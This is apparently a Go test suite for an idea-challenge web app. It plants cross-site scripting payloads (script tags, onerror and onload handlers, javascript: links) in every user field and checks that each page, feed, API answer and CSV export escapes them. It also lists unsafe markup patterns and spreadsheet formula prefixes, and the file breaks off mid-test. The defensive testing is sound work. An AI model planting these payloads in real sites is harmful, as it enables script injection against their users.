package web

import (
	"encoding/csv"
	"encoding/json"
	"encoding/xml"
	"fmt"
	"io"
	"net/url"
	"slices"
	"strings"
	"testing"
	"time"

	"golang.org/x/net/html"
)

// xssPayload is one attack, written into every field a person can fill in.
// tag is the same attack cut to fit an idea's tag (30 characters at most).
type xssPayload struct{ name, text, tag string }

var xssCorpus = []xssPayload{
	{"script", `<script>alert(1)</script>`, `<script>alert(1)</script>`},
	{"img", `<img src=x onerror=alert(1)>`, `<img src=x onerror=alert(1)>`},
	{"svg", `"><svg onload=alert(1)>`, `"><svg onload=alert(1)>`},
	{"js_link", `[click](javascript:alert(1))`, `[click](javascript:alert(1))`},
	{"js_string", `'};alert(1);//`, `'};alert(1);//`},
	{"chinese", `洗衣机二次污染"><script>alert(1)</script>`, `二次污染<script>alert(1)</script>`},
}

// TestXSSCorpusOnEveryPage writes each attack into every user-writable field,
// walks a challenge through voting, judging, results, triage and a prototype
// project, and reads every page, feed, export and API answer that shows
// those fields. Each page must show the text (escaped, so the field is
// proven to be there) and never as markup a browser would run.
func TestXSSCorpusOnEveryPage(t *testing.T) {
	t.Parallel()
	for _, p := range xssCorpus {
		t.Run(p.name, func(t *testing.T) {
			t.Parallel()
			w := newXSSWorld(t, p)
			w.submissionPages(t)
			w.judging(t)
			w.results(t)
			w.triageAndProject(t)
			w.readEverything(t)
			w.launch(t)
		})
	}
}

const (
	xssPassword = "xss-password"
	xssEmail    = "vo'ter&x={1}@x.cn"
)

// xssWorld is one challenge's whole life with one attack in every field.
type xssWorld struct {
	h *harness
	p xssPayload

	admin, author, tester, judge, engineer string // API tokens
	testerID, judgeID, engineerID          int

	cid, idea, second, hidden, pid int

	browsers map[string]*browser // signed in, by email
}

// v is a field's text: a word naming the field, which proves that a page
// shows that field, then the attack.
func (w *xssWorld) v(field string) string { return field + " " + w.p.text }

func newXSSWorld(t *testing.T, p xssPayload) *xssWorld {
	h := newHarness(t)
	w := &xssWorld{h: h, p: p, admin: h.setup(), browsers: map[string]*browser{}}
	w.author, _ = w.signUp(t, "author@x.cn", w.v("AuthorName"))
	w.tester, w.testerID = w.signUp(t, "tester@x.cn", w.v("TesterName"))
	w.judge, w.judgeID = w.signUp(t, "judge@x.cn", w.v("JudgeName"))
	w.engineer, w.engineerID = w.signUp(t, "engineer@x.cn", w.v("EngineerName"))
	// An address may hold quotes, ampersands and braces too.
	voter, _ := w.signUp(t, xssEmail, w.v("VoterName"))
	h.confirm(int64(w.judgeID))
	h.api("PUT", fmt.Sprintf("/api/v1/users/%d/roles", w.judgeID), w.admin, map[string]any{"roles": []string{"judge"}}).must(t, 200)
	h.confirm(int64(w.engineerID))
	h.api("PUT", fmt.Sprintf("/api/v1/users/%d/roles", w.engineerID), w.admin, map[string]any{"roles": []string{"engineer"}}).must(t, 200)

	w.cid = h.openChallenge(w.admin, map[string]any{"title": w.v("ChallengeTitle"), "brief": w.v("ChallengeBrief"), "shortlist_size": 2, "winners": 2})
	ch := w.getJSON(t, "", fmt.Sprintf("/api/v1/challenges/%d", w.cid))
	w.raw(t, "challenge title", str(ch.JSON, "title"), w.v("ChallengeTitle"))
	w.raw(t, "challenge brief", str(ch.JSON, "brief"), w.v("ChallengeBrief"))
	w.safeFragment(t, "challenge brief_html", str(ch.JSON, "brief_html"), "ChallengeBrief")

	newIdea := func(title string) int {
		return num(h.api("POST", fmt.Sprintf("/api/v1/challenges/%d/ideas", w.cid), w.author, map[string]any{
			"title": w.v(title), "summary": w.v("IdeaSummary"), "body": w.v("IdeaBody"), "tags": []string{p.tag, "洗衣机"},
		}).must(t, 201).JSON, "id")
	}
	w.idea, w.second, w.hidden = newIdea("IdeaTitle"), newIdea("SecondTitle"), newIdea("HiddenTitle")
	for _, tok := range []string{w.tester, voter, w.admin} {
		h.api("PUT", fmt.Sprintf("/api/v1/ideas/%d/vote", w.idea), tok, nil).must(t, 200)
	}
	for _, tok := range []string{w.tester, voter} {
		h.api("PUT", fmt.Sprintf("/api/v1/ideas/%d/vote", w.second), tok, nil).must(t, 200)
	}
	// A fan's comment stays unanswered (the reply dashboard lists it); an
	// engineer's reply on the second idea is official.
	h.api("POST", fmt.Sprintf("/api/v1/ideas/%d/comments", w.idea), w.tester, map[string]string{"body": w.v("CommentBody")}).must(t, 201)
	h.api("POST", fmt.Sprintf("/api/v1/ideas/%d/comments", w.second), w.engineer, map[string]string{"body": w.v("OfficialBody")}).must(t, 201)
	admin := w.as(t, "admin@brand.cn", "admin-password")
	hidden := fmt.Sprintf("/ideas/%d", w.hidden)
	admin.post(hidden, hidden+"/state", url.Values{"state": {"hidden"}, "reason": {w.v("HideReason")}}).must(t, 303)
	return w
}

func (w *xssWorld) signUp(t *testing.T, email, name string) (token string, id int) {
	t.Helper()
	w.h.api("POST", "/api/v1/users", "", map[string]string{"email": email, "name": name, "password": xssPassword}).must(t, 201)
	token = str(w.h.api("POST", "/api/v1/tokens", "", map[string]string{"email": email, "password": xssPassword}).must(t, 201).JSON, "token")
	me := w.getJSON(t, token, "/api/v1/me")
	w.raw(t, "user name", str(me.JSON, "name"), name)
	return token, num(me.JSON, "id")
}

// as is a browser signed in as email.
func (w *xssWorld) as(t *testing.T, email, password string) *browser {
	t.Helper()
	if b, ok := w.browsers[email]; ok {
		return b
	}
	b := w.h.browser()
	b.signIn(email, password)
	w.browsers[email] = b
	return b
}

// submissionPages are the forms that show a field back for editing.
func (w *xssWorld) submissionPages(t *testing.T) {
	author := w.as(t, "author@x.cn", xssPassword)
	w.page(t, author, fmt.Sprintf("/challenges/%d/submit", w.cid), w.v("ChallengeTitle"))
	w.page(t, author, fmt.Sprintf("/ideas/%d/edit", w.idea), w.v("IdeaTitle"), w.v("IdeaSummary"), w.v("IdeaBody"), w.p.tag)
	admin := w.as(t, "admin@brand.cn", "admin-password")
	w.page(t, admin, fmt.Sprintf("/challenges/%d/edit", w.cid), w.v("ChallengeTitle"), w.v("ChallengeBrief"))
	// The attack in a query parameter that pages echo back.
	for _, path := range []string{"/signin?next=", "/signup?next=", fmt.Sprintf("/challenges/%d?sort=", w.cid)} {
		r := w.h.browser().get(path + url.QueryEscape(w.p.text))
		if why := unsafeMarkup(r.Body, false); why != "" {
			t.Errorf("%s with the attack in the query: %s", path, why)
		}
	}
}

func (w *xssWorld) judging(t *testing.T) {
	h := w.h
	h.advance(80 * time.Hour) // voting is over
	rubric := fmt.Sprintf("/api/v1/challenges/%d/rubric", w.cid)
	h.api("PUT", rubric, w.admin, map[string]any{
		"criteria": []map[string]any{
			{"key": "novelty", "name": w.v("CriterionName"), "weight": 2, "min": 0, "max": 10},
			{"key": "feasibility", "name": "Feasibility", "weight": 1, "min": 0, "max": 10},
		},
		"crowd_weight": 0.25, "blind": false,
	}).must(t, 200)
	criteria, _ := w.getJSON(t, "", rubric).JSON["criteria"].([]any)
	if len(criteria) == 0 {
		t.Fatal("the rubric has no criteria")
	}
	w.raw(t, "criterion name", str(criteria[0].(map[string]any), "name"), w.v("CriterionName"))
	h.api("POST", fmt.Sprintf("/api/v1/challenges/%d/shortlist", w.cid), w.admin, map[string]any{"top": 2}).must(t, 200)
	h.api("POST", fmt.Sprintf("/api/v1/challenges/%d/judges", w.cid), w.admin, map[string]any{"user_ids": []int{w.judgeID}, "per_idea": 1}).must(t, 200)

	for _, a := range w.getJSON(t, w.judge, "/api/v1/judging/assignments").JSON["assignments"].([]any) {
		idea := a.(map[string]any)["idea"].(map[string]any)
		w.raw(t, "assigned idea summary", str(idea, "summary"), w.v("IdeaSummary"))
		w.safeFragment(t, "assigned idea body_html", str(idea, "body_html"), "IdeaBody")
	}
	judge := w.as(t, "judge@x.cn", xssPassword)
	w.page(t, judge, "/judging", w.v("IdeaTitle"), w.v("SecondTitle"))
	card := fmt.Sprintf("/judging/ideas/%d", w.idea)
	w.page(t, judge, card, w.v("IdeaTitle"), w.v("IdeaSummary"), "IdeaBody", w.v("CriterionName"), w.v("AuthorName"))
	// A refused card comes back with the judge's comment in place.
	r := judge.post(card, card, url.Values{"score_novelty": {"lots"}, "score_feasibility": {"5"}, "comment": {w.v("JudgeComment")}})
	showsSafely(t, card+" (refused)", r, 400, w.v("JudgeComment"), w.v("CriterionName"))
	for _, id := range []int{w.idea, w.second} {
		r := h.api("PUT", fmt.Sprintf("/api/v1/ideas/%d/scorecard", id), w.judge, map[string]any{
			"scores": map[string]float64{"novelty": 7, "feasibility": 5}, "comment": w.v("JudgeComment"),
		}).must(t, 200)
		w.raw(t, "scorecard comment", str(r.JSON, "comment"), w.v("JudgeComment"))
	}
	w.page(t, judge, card, w.v("JudgeComment"))

	admin := w.as(t, "admin@brand.cn", "admin-password")
	w.page(t, admin, fmt.Sprintf("/challenges/%d/judging", w.cid),
		w.v("ChallengeTitle"), w.v("CriterionName"), w.v("JudgeName"), w.v("IdeaTitle"), w.v("SecondTitle"))
	w.page(t, admin, fmt.Sprintf("/challenges/%d/results", w.cid), w.v("CriterionName"), w.v("IdeaTitle")) // the preview

	// The export: the text as written, but never a cell a spreadsheet runs.
	rows := scoresCSV(t, admin, w.cid)
	found := 0
	for _, row := range rows[1:] {
		if row[1] == w.v("IdeaTitle") && row[slices.Index(rows[0], "comment")] == w.v("JudgeComment") {
			found++
		}
	}
	if found != 1 {
		t.Errorf("the CSV does not carry the title and comment as written: %q", rows)
	}
}

func (w *xssWorld) results(t *testing.T) {
	w.h.api("POST", fmt.Sprintf("/api/v1/challenges/%d/results/publish", w.cid), w.admin, nil).must(t, 200)
	body := w.page(t, w.h.browser(), fmt.Sprintf("/challenges/%d/results", w.cid),
		w.v("ChallengeTitle"), w.v("CriterionName"), w.v("IdeaTitle"), w.v("SecondTitle"))
	if title, _ := shareCard(body); !strings.HasPrefix(title, w.v("ChallengeTitle")) {
		t.Errorf("results page <title> = %q", title)
	}
}

func (w *xssWorld) triageAndProject(t *testing.T) {
	h := w.h
	eng := w.as(t, "engineer@x.cn", xssPassword)
	w.page(t, eng, "/triage", w.v("IdeaTitle"), w.v("SecondTitle"), w.v("AuthorName"), w.v("EngineerName"))
	eng.post("/triage", fmt.Sprintf("/ideas/%d/decline", w.second), url.Values{"reason": {w.v("DeclineReason")}}).must(t, 303)

	r := h.api("POST", fmt.Sprintf("/api/v1/ideas/%d/project", w.idea), w.admin, map[string]any{"owner_id": w.engineerID}).must(t, 201)
	w.pid = num(r.JSON, "id")
	w.raw(t, "project title", str(r.JSON, "title"), w.v("IdeaTitle"))
	project := fmt.Sprintf("/api/v1/projects/%d", w.pid)
	for _, to := range []string{"accepted", "concept", "prototype", "fan_test"} {
		note := ""
		if to == "accepted" {
			note = w.v("MoveNote")
		}
		h.api("POST", project+"/transitions", w.engineer, map[string]string{"to": to, "note": note}).must(t, 200)
	}
	r = h.api("POST", project+"/milestones", w.engineer, map[string]any{"title": w.v("Milestone"), "due_at": h.clock().Truncate(24 * time.Hour)}).must(t, 201) // today: past due, not before today
	w.raw(t, "milestone title", str(r.JSON, "title"), w.v("Milestone"))
	r = h.api("POST", project+"/updates", w.engineer, map[string]string{"body": w.v("UpdateBody")}).must(t, 201)
	w.raw(t, "update body", str(r.JSON, "body"), w.v("UpdateBody"))

	h.earn(w.testerID, 10) // level 2
	r = h.api("POST", project+"/testers", w.tester, map[string]string{"motivation": w.v("Motivation")}).must(t, 201)
	w.raw(t, "motivation", str(r.JSON, "motivation"), w.v("Motivation"))
	h.api("PUT", fmt.Sprintf("%s/testers/%d", project, w.testerID), w.engineer, map[string]bool{"accepted": true}).must(t, 200)
	r = h.api("POST", project+"/feedback", w.tester, map[string]any{"rating": 4, "body": w.v("Feedback")}).must(t, 201)
	w.raw(t, "feedback body", str(r.JSON, "body"), w.v("Feedback"))
	r = h.api("PUT", fmt.Sprintf("%s/feedback/%d", project, num(r.JSON, "id")), w.engineer, map[string]any{"addressed": true, "reply": w.v("FeedbackReply")}).must(t, 200)
	w.raw(t, "feedback reply", str(r.JSON, "reply"), w.v("FeedbackReply"))

	p := w.getJSON(t, "", project)
	var notes []string
	for _, u := range p.JSON["timeline"].([]any) {
		notes = append(notes, str(u.(map[string]any), "body"))
	}
	for _, want := range []string{w.v("MoveNote"), w.v("UpdateBody")} {
		if !strings.Contains(strings.Join(notes, "\x00")+"\x00", want+"\x00") {
			t.Errorf("the project's timeline lacks %q as written: %q", want, notes)
		}
	}
	milestones, _ := p.JSON["milestones"].([]any)
	if len(milestones) != 1 {
		t.Fatalf("project milestones: %v", milestones)
	}
	w.raw(t, "project milestone", str(milestones[0].(map[string]any), "title"), w.v("Milestone"))
}

// readEverything reads every page, feed and API answer that shows the
// fields, once the project is in its fan test.
func (w *xssWorld) readEverything(t *testing.T) {
	anon := w.h.browser()
	idea, second, hidden := fmt.Sprintf("/ideas/%d", w.idea), fmt.Sprintf("/ideas/%d", w.second), fmt.Sprintf("/ideas/%d", w.hidden)
	challenge, project := fmt.Sprintf("/challenges/%d", w.cid), fmt.Sprintf("/projects/%d", w.pid)
	w.page(t, anon, "/", w.v("ChallengeTitle"))
	w.page(t, anon, challenge, w.v("ChallengeTitle"), "ChallengeBrief", w.v("IdeaTitle"), w.v("IdeaSummary"), w.v("AuthorName"), "#"+w.p.tag)
	w.page(t, anon, idea, w.v("ChallengeTitle"), w.v("IdeaTitle"), w.v("IdeaSummary"), "IdeaBody", "#"+w.p.tag,
		w.v("AuthorName"), w.v("TesterName"), "CommentBody")
	w.page(t, anon, second, w.v("SecondTitle"), w.v("DeclineReason"), w.v("EngineerName"), "OfficialBody")
	admin := w.as(t, "admin@brand.cn", "admin-password")
	w.page(t, admin, hidden, w.v("HiddenTitle"), w.v("HideReason"))

	// Share cards: crawlers read the meta tags with entities decoded, so
	// the decoded value must be the text exactly, in its one attribute.
	for _, c := range []struct{ path, title, description string }{
		{challenge, w.v("ChallengeTitle"), excerpt(w.v("ChallengeBrief"), 140)},
		{idea, w.v("IdeaTitle"), excerpt(w.v("IdeaSummary"), 140)},
		{project, w.v("IdeaTitle"), excerpt(w.v("IdeaSummary"), 140)},
	} {
		title, meta := shareCard(anon.get(c.path).Body)
		if !strings.HasPrefix(title, c.title) {
			t.Errorf("%s <title> = %q", c.path, title)
		}
		for _, k := range []string{"og:title", "twitter:title"} {
			if meta[k] != c.title {
				t.Errorf("%s %s = %q, want %q", c.path, k, meta[k], c.title)
			}
		}
		for _, k := range []string{"description", "og:description", "twitter:description"} {
			if meta[k] != c.description {
				t.Errorf("%s %s = %q, want %q", c.path, k, meta[k], c.description)
			}
		}
	}

	w.page(t, anon, "/projects", w.v("IdeaTitle"), w.v("EngineerName"), w.v("Milestone"))
	public := []string{w.v("IdeaTitle"), w.v("EngineerName"), w.v("AuthorName"), w.v("Milestone"), "MoveNote", "UpdateBody"}
	w.page(t, anon, project, public...)
	eng := w.as(t, "engineer@x.cn", xssPassword)
	w.page(t, eng, project, append(public, w.v("TesterName"), w.v("Motivation"), w.v("Feedback"), w.v("FeedbackReply"))...)
	tester := w.as(t, "tester@x.cn", xssPassword)
	w.page(t, tester, project, append(public, w.v("Feedback"), w.v("FeedbackReply"))...)

	author := w.as(t, "author@x.cn", xssPassword)
	notices := w.getJSON(t, w.author, "/api/v1/me/notifications").Body
	w.page(t, author, "/notifications", w.v("IdeaTitle"), w.v("SecondTitle"))
	w.page(t, tester, "/notifications", w.v("IdeaTitle"))
	w.page(t, author, "/settings", w.v("AuthorName"))
	if !strings.Contains(notices, jsonString(w.v("IdeaTitle"))) {
		t.Errorf("notifications API does not give the title as written: %.500s", notices)
	}

	// Staff dashboards.
	w.page(t, admin, challenge+"/replies", w.v("ChallengeTitle"), w.v("IdeaTitle"))
	w.page(t, admin, "/admin/users", xssEmail, w.v("AuthorName"), w.v("TesterName"), w.v("JudgeName"), w.v("EngineerName"), w.v("VoterName"))
	w.page(t, admin, challenge, w.v("ChallengeTitle")) // with the admin's tools and the charts
	if m := admin.get("/metrics").must(t, 200); strings.Contains(m.Body, w.p.text) || strings.Contains(m.Body, "<") {
		t.Errorf("metrics carry user text or markup: %.300s", m.Body)
	}

	w.feeds(t)
	w.search(t)
	w.readAPI(t)
}

func (w *xssWorld) feeds(t *testing.T) {
	anon := w.h.browser()
	f := readFeed(t, anon, fmt.Sprintf("/challenges/%d/feed.atom", w.cid))
	if f.Title != w.v("ChallengeTitle") {
		t.Errorf("challenge feed title = %q", f.Title)
	}
	found := false
	for _, e := range f.Entries {
		w.safeFragment(t, "challenge feed entry", e.Content.Body, "IdeaSummary")
		if e.Title == w.v("IdeaTitle") {
			found = true
			if e.Author.Name != w.v("AuthorName") {
				t.Errorf("feed entry author = %q", e.Author.Name)
			}
		}
	}
	if !found {
		t.Errorf("challenge feed has no entry titled %q: %+v", w.v("IdeaTitle"), f.Entries)
	}

	f = readFeed(t, anon, fmt.Sprintf("/projects/%d/feed.atom", w.pid))
	if f.Title != w.v("IdeaTitle") {
		t.Errorf("project feed title = %q", f.Title)
	}
	var content, authors []string
	for _, e := range f.Entries {
		if why := unsafeMarkup(e.Content.Body, true); why != "" {
			t.Errorf("project feed entry: %s", why)
		}
		content, authors = append(content, e.Content.Body), append(authors, e.Author.Name)
	}
	all := strings.Join(content, "\n")
	if !strings.Contains(all, "MoveNote") || !strings.Contains(all, "UpdateBody") || !strings.Contains(strings.Join(authors, "\x00"), w.v("EngineerName")) {
		t.Errorf("project feed lacks the notes, the update or the engineer: %q by %q", content, authors)
	}
}

func (w *xssWorld) search(t *testing.T) {
	anon := w.h.browser()
	// The attack as the query and the tag filter: echoed into the form.
	q := url.Values{"q": {w.p.text}, "tag": {w.p.tag}}
	w.page(t, anon, "/search?"+q.Encode(), w.p.text, w.p.tag)
	for _, c := range []struct{ word, typ string }{
		{"ChallengeTitle", "challenge"}, {"IdeaTitle", "idea"}, {"CommentBody", "comment"}, {"UpdateBody", "update"},
	} {
		hit := w.awaitHit(t, c.word, c.typ)
		if hit == nil {
			t.Errorf("search for %s found no %s", c.word, c.typ)
			continue
		}
		for _, k := range []string{"title_highlight", "highlight"} {
			if rest := strings.NewReplacer("<mark>", "", "</mark>", "").Replace(str(hit, k)); strings.Contains(rest, "<") {
				t.Errorf("search %s %s has markup other than <mark>: %q", c.typ, k, str(hit, k))
			}
		}
		// The page shows the attack escaped, after the marked word.
		w.page(t, anon, "/search?q="+c.word, w.p.text)
	}
	hit := w.awaitHit(t, "IdeaTitle", "idea")
	if hit != nil {
		w.raw(t, "search hit title", str(hit, "title"), w.v("IdeaTitle"))
	}

	var similar []any
	for start := time.Now(); len(similar) == 0 && time.Since(start) < indexWait; time.Sleep(20 * time.Millisecond) {
		similar, _ = w.getJSON(t, "", fmt.Sprintf("/api/v1/challenges/%d/similar?text=IdeaTitle", w.cid)).JSON["ideas"].([]any)
	}
	if len(similar) == 0 {
		t.Fatal("no similar ideas for IdeaTitle")
	}
	s := similar[0].(map[string]any)
	w.raw(t, "similar idea title", str(s, "title"), w.v("IdeaTitle"))
	w.safeFragment(t, "similar idea body_html", str(s, "body_html"), "IdeaBody")
}

// awaitHit polls the search API until a hit of type typ turns up for query
// (the index is updated in the background).
func (w *xssWorld) awaitHit(t *testing.T, query, typ string) map[string]any {
	for start := time.Now(); time.Since(start) < indexWait; time.Sleep(20 * time.Millisecond) {
		r := w.getJSON(t, "", "/api/v1/search?type=all&q="+url.QueryEscape(query))
		hits, _ := r.JSON["hits"].([]any)
		for _, x := range hits {
			if hit := x.(map[string]any); hit["type"] == typ {
				return hit
			}
		}
	}
	return nil
}

// readAPI checks that the JSON API gives the text exactly as written:
// escaping is the page's job, sanitising the body_html's.
func (w *xssWorld) readAPI(t *testing.T) {
	i := w.getJSON(t, "", fmt.Sprintf("/api/v1/ideas/%d", w.idea)).JSON
	w.raw(t, "idea title", str(i, "title"), w.v("IdeaTitle"))
	w.raw(t, "idea summary", str(i, "summary"), w.v("IdeaSummary"))
	w.raw(t, "idea body", str(i, "body"), w.v("IdeaBody"))
	w.safeFragment(t, "idea body_html", str(i, "body_html"), "IdeaBody")
	if tags, _ := i["tags"].([]any); len(tags) == 0 || tags[0] != w.p.tag {
		t.Errorf("idea tags = %v, want %q first", i["tags"], w.p.tag)
	}
	w.raw(t, "idea author", str(i, "author", "name"), w.v("AuthorName"))
	comments, _ := w.getJSON(t, "", fmt.Sprintf("/api/v1/ideas/%d/comments", w.idea)).JSON["comments"].([]any)
	if len(comments) != 1 {
		t.Fatalf("comments: %v", comments)
	}
	c := comments[0].(map[string]any)
	w.raw(t, "comment body", str(c, "body"), w.v("CommentBody"))
	w.raw(t, "comment author", str(c, "author", "name"), w.v("TesterName"))
	w.safeFragment(t, "comment body_html", str(c, "body_html"), "CommentBody")
	projects, _ := w.getJSON(t, "", "/api/v1/projects").JSON["projects"].([]any)
	if len(projects) != 1 {
		t.Fatalf("projects: %v", projects)
	}
	w.raw(t, "project owner", str(projects[0].(map[string]any), "owner", "name"), w.v("EngineerName"))
}

// launch finishes the project: the credits show the people by name.
func (w *xssWorld) launch(t *testing.T) {
	for _, to := range []string{"pilot", "launched"} {
		w.h.api("POST", fmt.Sprintf("/api/v1/projects/%d/transitions", w.pid), w.engineer, map[string]string{"to": to, "note": ""}).must(t, 200)
	}
	project := fmt.Sprintf("/projects/%d", w.pid)
	eng := w.as(t, "engineer@x.cn", xssPassword)
	eng.post(project, project+"/credits", url.Values{"credits": {fmt.Sprintf("%d %s", w.testerID, w.v("CreditRole"))}}).must(t, 303)
	w.page(t, eng, project, w.v("CreditRole")) // in the form
	w.page(t, w.h.browser(), project, w.v("AuthorName"), w.v("TesterName"), w.v("CreditRole"))
}

// page fetches an HTML page and checks it shows each of shown, safely.
func (w *xssWorld) page(t *testing.T, b *browser, path string, shown ...string) string {
	t.Helper()
	r := b.get(path)
	showsSafely(t, path, r, 200, shown...)
	return r.Body
}

// getJSON fetches an API answer. It must be JSON, never something a browser
// would render, and its wire text escapes < as \u003c.
func (w *xssWorld) getJSON(t *testing.T, token, path string) res {
	t.Helper()
	r := w.h.api("GET", path, token, nil).must(t, 200)
	if !strings.HasPrefix(r.Header.Get("Content-Type"), "application/json") {
		t.Errorf("%s: content type %q", path, r.Header.Get("Content-Type"))
	}
	if strings.Contains(r.Body, "<") {
		t.Errorf("%s sends a raw <: %.300s", path, r.Body)
	}
	return r
}

func (w *xssWorld) raw(t *testing.T, what, got, want string) {
	t.Helper()
	if got != want {
		t.Errorf("%s = %q, want it as written: %q", what, got, want)
	}
}

// safeFragment checks HTML rendered from markdown: it shows the field's
// word and nothing that runs.
func (w *xssWorld) safeFragment(t *testing.T, what, fragment, word string) {
	t.Helper()
	if why := unsafeMarkup(fragment, true); why != "" {
		t.Errorf("%s: %s: %q", what, why, fragment)
	}
	if !strings.Contains(fragment, word) {
		t.Errorf("%s does not show %q: %q", what, word, fragment)
	}
}

// showsSafely checks an HTML answer: its status, nothing of the attacks a
// browser would run, and each of shown present as the templates escape it.
func showsSafely(t *testing.T, what string, r res, status int, shown ...string) {
	t.Helper()
	if r.Status != status {
		t.Errorf("%s: status %d, want %d: %.300s", what, r.Status, status, r.Body)
		return
	}
	if ct := r.Header.Get("Content-Type"); !strings.HasPrefix(ct, "text/html") {
		t.Errorf("%s: content type %q", what, ct)
	}
	if why := unsafeMarkup(r.Body, false); why != "" {
		t.Errorf("%s: %s", what, why)
	}
	for _, s := range shown {
		if !strings.Contains(r.Body, templateEscape.Replace(s)) {
			t.Errorf("%s does not show %q (escaped %q)", what, s, templateEscape.Replace(s))
		}
	}
}

// templateEscape is what html/template writes for a string in text and in
// a quoted attribute.
var templateEscape = strings.NewReplacer("\x00", "\uFFFD", `"`, "&#34;", "&", "&amp;", "'", "&#39;", "+", "&#43;", "<", "&lt;", ">", "&gt;")

// xssTells are the corpus's own markup: never on a page as such.
var xssTells = []string{"<script>alert", "<img src=x", "<svg onload", `href="javascript:`}

// xssURLAttrs are the attributes whose value a browser follows or loads.
var xssURLAttrs = map[string]bool{
	"href": true, "src": true, "action": true, "formaction": true, "xlink:href": true, "poster": true,
	"background": true, "cite": true, "longdesc": true, "srcset": true, "data-url": true,
}

// unsafeMarkup reports the first thing in doc that a browser would run,
// reading it as a browser's tokenizer does: the corpus's tags, an inline
// script, an event or style attribute, a script URL. A whole page may load
// its own script from /static/ and draw SVG charts; a fragment (rendered
// markdown, a feed entry) may do neither.
func unsafeMarkup(doc string, fragment bool) string {
	lower := strings.ToLower(doc)
	for _, tell := range xssTells {
		if strings.Contains(lower, tell) {
			return "contains " + tell
		}
	}
	z := html.NewTokenizer(strings.NewReader(doc))
	inScript := false
	for {
		tt := z.Next()
		switch tt {
		case html.ErrorToken:
			return ""
		case html.TextToken:
			if text := strings.TrimSpace(string(z.Text())); inScript && text != "" {
				return "inline script " + text
			}
		case html.EndTagToken:
			if name, _ := z.TagName(); string(name) == "script" {
				inScript = false
			}
		case html.StartTagToken, html.SelfClosingTagToken:
			tok := z.Token()
			switch tok.Data {
			case "script":
				if fragment || !strings.HasPrefix(attr(tok, "src"), "/static/") {
					return "a <script> not from /static/"
				}
				inScript = tt == html.StartTagToken
			case "iframe", "frame", "object", "embed", "applet", "base", "style":
				return "a <" + tok.Data + "> element"
			case "svg", "math", "form", "meta", "link":
				if fragment {
					return "a <" + tok.Data + "> element in user content"
				}
			}
			if tok.Data == "meta" && attr(tok, "http-equiv") != "" {
				return "a <meta http-equiv>"
			}
			for _, a := range tok.Attr {
				key := strings.ToLower(a.Key)
				switch {
				case strings.HasPrefix(key, "on"):
					return "event attribute " + a.Key + " on <" + tok.Data + ">"
				case key == "style":
					return "style attribute on <" + tok.Data + ">"
				case xssURLAttrs[key] && scriptURL(a.Val):
					return "script URL " + a.Key + "=" + a.Val
				}
			}
		}
	}
}

func attr(tok html.Token, key string) string {
	for _, a := range tok.Attr {
		if a.Key == key {
			return a.Val
		}
	}
	return ""
}

// scriptURL reports whether a URL runs script; browsers ignore whitespace
// and control characters inside the scheme.
func scriptURL(v string) bool {
	v = strings.ToLower(strings.Map(func(r rune) rune {
		if r <= 0x20 || r == 0x7f {
			return -1
		}
		return r
	}, v))
	return strings.HasPrefix(v, "javascript:") || strings.HasPrefix(v, "vbscript:") || strings.HasPrefix(v, "data:text/html")
}

// shareCard reads a page's <title> and its meta tags (by name or property)
// the way a crawler building a link card does: entities decoded.
func shareCard(doc string) (title string, meta map[string]string) {
	meta = map[string]string{}
	z := html.NewTokenizer(strings.NewReader(doc))
	inTitle, seenTitle := false, false
	for {
		switch z.Next() {
		case html.ErrorToken:
			return title, meta
		case html.TextToken:
			if inTitle {
				title += string(z.Text())
			}
		case html.EndTagToken:
			inTitle = false
		case html.StartTagToken, html.SelfClosingTagToken:
			tok := z.Token()
			if tok.Data == "title" && !seenTitle { // later ones are charts'
				inTitle, seenTitle = true, true
			}
			if tok.Data == "meta" {
				if k := attr(tok, "property") + attr(tok, "name"); k != "" {
					meta[k] = attr(tok, "content")
				}
			}
		}
	}
}

// jsonString is s as encoding/json writes it inside a string.
func jsonString(s string) string {
	out, _ := json.Marshal(s)
	return string(out[1 : len(out)-1])
}

type xssFeed struct {
	Title   string `xml:"title"`
	Entries []struct {
		Title  string `xml:"title"`
		Author struct {
			Name string `xml:"name"`
		} `xml:"author"`
		Content struct {
			Type string `xml:"type,attr"`
			Body string `xml:",chardata"`
		} `xml:"content"`
	} `xml:"entry"`
}

// readFeed fetches an Atom feed and parses it strictly, to its end: a
// title that broke out of its element would make it ill-formed.
func readFeed(t *testing.T, b *browser, path string) xssFeed {
	t.Helper()
	r := b.get(path).must(t, 200)
	if !strings.HasPrefix(r.Header.Get("Content-Type"), "application/atom+xml") {
		t.Errorf("%s: content type %q", path, r.Header.Get("Content-Type"))
	}
	d := xml.NewDecoder(strings.NewReader(r.Body))
	for {
		if _, err := d.Token(); err == io.EOF {
			break
		} else if err != nil {
			t.Fatalf("%s is not well-formed XML: %v\n%s", path, err, r.Body)
		}
	}
	if strings.Contains(strings.ToLower(r.Body), "<script") {
		t.Errorf("%s carries a raw <script", path)
	}
	var f xssFeed
	if err := xml.Unmarshal([]byte(r.Body), &f); err != nil {
		t.Fatalf("%s: %v", path, err)
	}
	for _, e := range f.Entries {
		if e.Content.Type != "html" {
			t.Errorf("%s: entry content type %q", path, e.Content.Type)
		}
	}
	return f
}

// scoresCSV downloads a challenge's scorecards and checks that no cell
// would start a formula in a spreadsheet (=, +, -, @, tab, CR).
func scoresCSV(t *testing.T, admin *browser, cid int) [][]string {
	t.Helper()
	path := fmt.Sprintf("/challenges/%d/scores.csv", cid)
	r := admin.get(path).must(t, 200)
	if !strings.HasPrefix(r.Header.Get("Content-Type"), "text/csv") || !strings.HasPrefix(r.Header.Get("Content-Disposition"), "attachment") {
		t.Errorf("%s is not a CSV download: %q, %q", path, r.Header.Get("Content-Type"), r.Header.Get("Content-Disposition"))
	}
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(r.Body, "\xEF\xBB\xBF"))).ReadAll()
	if err != nil || len(rows) < 2 {
		t.Fatalf("%s: %v: %q", path, err, r.Body)
	}
	for i, row := range rows {
		for j, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("%s row %d cell %d starts a formula: %q", path, i, j, cell)
			}
		}
	}
	return rows
}

// TestXSSCSVExportDefusesFormulas puts formulas in the two free-text columns
// of the scorecard export, idea titles and judges' comments: each comes out
// as text, quoted with a leading apostrophe, and otherwise as written.
func TestXSSCSVExportDefusesFormulas(t *testing.T) {
	t.Parallel()
	h := newHarness(t)
	admin := h.setup()
	author := h.fan("author@x.cn")
	judges := []string{h.fan("j1@x.cn"), h.fan("j2@x.cn")}
	var judgeIDs []int
	for _, j := range judges {
		id := num(h.api("GET", "/api/v1/me", j, nil).JSON, "id")
